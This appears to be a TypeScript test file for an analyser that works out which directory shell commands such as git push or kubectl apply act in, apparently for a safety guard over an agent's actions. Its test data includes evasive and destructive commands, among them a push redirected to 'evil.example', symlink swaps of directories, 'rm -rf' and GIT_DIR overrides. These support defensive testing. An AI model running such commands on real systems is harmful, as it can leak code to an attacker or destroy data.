/** In which directory a client works, for whoever asks the same client before the call runs. */
import { describe, expect, test } from 'vitest'
import { callOf } from '../../../test/support/calls.ts'
import { createFixedView, type World } from '../../view/fixed.ts'
import { analyse } from '../analyse.ts'

const git = (top: string) => ({ top, branch: 'main', remotes: { origin: `https://h.example/${top.slice(1)}.git` }, aliases: { p: 'push' } })
const WORLD: World = {
  home: '/home/me',
  user: 'me',
  cwd: '/repo',
  digest: (text) => `sha256:${text.length}`,
  env: { CDPATH: '' },
  files: {
    '/repo/deploy/web.yaml': 'x',
    '/repo/sub/Makefile': 'ship:\n\tgit push\n',
    '/repo/sub/package.json': '{"scripts":{"ship":"git push"}}',
    '/repo/ship.sh': 'cd /other\ngit push\n',
    '/repo/ship.py': 'import subprocess\nsubprocess.run(["git", "push"])\n',
    '/other/a': '',
    '/paths/deploy/b': '',
    '/usr/bin/git': '',
  },
  git: { '/repo': git('/repo'), '/other': git('/other') },
}

const ACTS = /^(?:git:(?:push|discard|history)|k8s:apply|gh:pr-create|npm:publish|db:write)$/

const OPTIONS = { state: { written: new Map() }, canaryTokens: [], maxCommandBytes: 65_536 }

/** Directories of the acts of clients; null: not known. */
function places(command: string, world: Partial<World> = {}): readonly (string | null | undefined)[] {
  const call = callOf('Bash', { command }, { cwd: '/repo' })
  const { effects } = analyse(call, createFixedView({ ...WORLD, ...world }), OPTIONS)
  return effects.filter(({ action, verb }) => verb !== 'read' && ACTS.test(action ?? '')).map(({ directory }) => directory)
}

const APPLY = 'kubectl apply -f web.yaml'

const KNOWN: readonly (readonly [command: string, directories: readonly string[]])[] = [
  ['git push', ['/repo']],
  ['cd ../other && git push', ['/other']],
  ['cd ../other; git push', ['/other']],
  [`cd deploy && ${APPLY}`, ['/repo/deploy']],
  [`(cd deploy; ${APPLY}); git push`, ['/repo/deploy', '/repo']],
  [`pushd deploy; ${APPLY}; popd; git push`, ['/repo/deploy', '/repo']],
  ['git -C ../other push', ['/other']],
  ['git -C .. -C other push', ['/other']],
  ['cd / && git -C other reset --hard', ['/other']],
  ['git -C ../other p', ['/other']],
  ['git p', ['/repo']],
  ['env -C ../other git push', ['/other']],
  ['env -C ../other nice git push', ['/other']],
  ['sudo -D /other git push', ['/other']],
  ['sudo git push', ['/repo']],
  ['make -C sub ship', ['/repo/sub']],
  ['npm --prefix sub run ship', ['/repo/sub']],
  ['cd sub && npm run ship', ['/repo/sub']],
  ['bash ship.sh', ['/other']],
  ['sh -c "cd /other; git push"', ['/other']],
  ['f() { cd /other; git push; }; f', ['/other']],
  ['git() { command git -C /other "$@"; }; git push', ['/other']],
  ['cd ../other && gh pr create --fill', ['/other']],
  ['cd ../other && git push; cd ../repo && git push', ['/other', '/repo']],
  ['for d in /repo /other; do (cd $d && git push); done', ['/repo', '/other']],
  ['timeout 9 xargs git push < names', ['/repo']],
  ['X=/other; cd "$X" && git push', ['/other']],
  ['cd gone; git push', ['/repo']],
  ['mkdir -p deploy && cd deploy && git push', ['/repo/deploy']],
  ['git clean -fdx && git push', ['/repo', '/repo']],
]

const UNKNOWN: readonly string[] = [
  'cd "$X" && git push',
  'git -C "$X" push',
  '[ -d deploy ] && cd deploy; git push',
  'if test -n "$A"; then cd ../other; fi; git push',
  'cd "$(cat place)" && git push',
  'ls | while read d; do (cd "$d" && git push); done',
  // Another repository than that of the directory.
  'git --git-dir=/other/.git push',
  'git --work-tree=/other push',
  'GIT_DIR=/other/.git git push',
  'export GIT_DIR=/other/.git; git push',
  'env GIT_DIR=/other/.git git push',
  'git -c remote.origin.url=https://evil.example/x push',
  'GH_REPO=o/r gh pr create --fill',
  'HOME=/tmp/h git push',
  // Wrappers that run it elsewhere, or may.
  'sudo -i git push',
  'sudo -iu root git push',
  'su - me -c "git push"',
  'systemd-run --working-directory=/other git push',
  'nsenter --wd=/other -t 1 git push',
  'find . -execdir git push \\;',
  'bwrap --chdir /other --bind / / git push',
  // Other languages may go where nobody follows them.
  'python3 ship.py',
  "python3 -c \"import os; os.chdir('/other'); os.system('git push')\"",
  "node -e \"require('child_process').execSync('git push', {cwd: '/other'})\"",
  // Another directory is put where one is.
  'rm -rf deploy; ln -s /other deploy; cd deploy && git push',
  'mv deploy old; mv /other deploy; cd deploy && git push',
  'rm -rf deploy; mkdir deploy; cd deploy; git init; git push',
  'mv "$A" "$B"; cd deploy && git push',
  'rm -rf ./dep*; git clone https://h.example/deploy; cd deploy && git push',
]

describe('a client works in the directory of its command', () => {
  test.each(KNOWN)('%s', (command, directories) => expect(places(command)).toEqual(directories))
})

describe('not known', () => {
  test.each(UNKNOWN)('%s', (command) => {
    const found = places(command)
    expect(found.length, 'it acts').toBeGreaterThan(0)
    expect(new Set(found)).toEqual(new Set([null]))
  })

  test('a way of CDPATH leads to the directory that the shell would take', () => {
    expect(places(`cd deploy && ${APPLY}`, { env: { CDPATH: '/paths' } })).toEqual(['/paths/deploy'])
    expect(places(`CDPATH=$X; cd deploy && ${APPLY}`)).toEqual([null])
  })

  test('an act on another machine is in no directory of this one', () => expect(places('ssh h.example git push')).toEqual([null]))
})
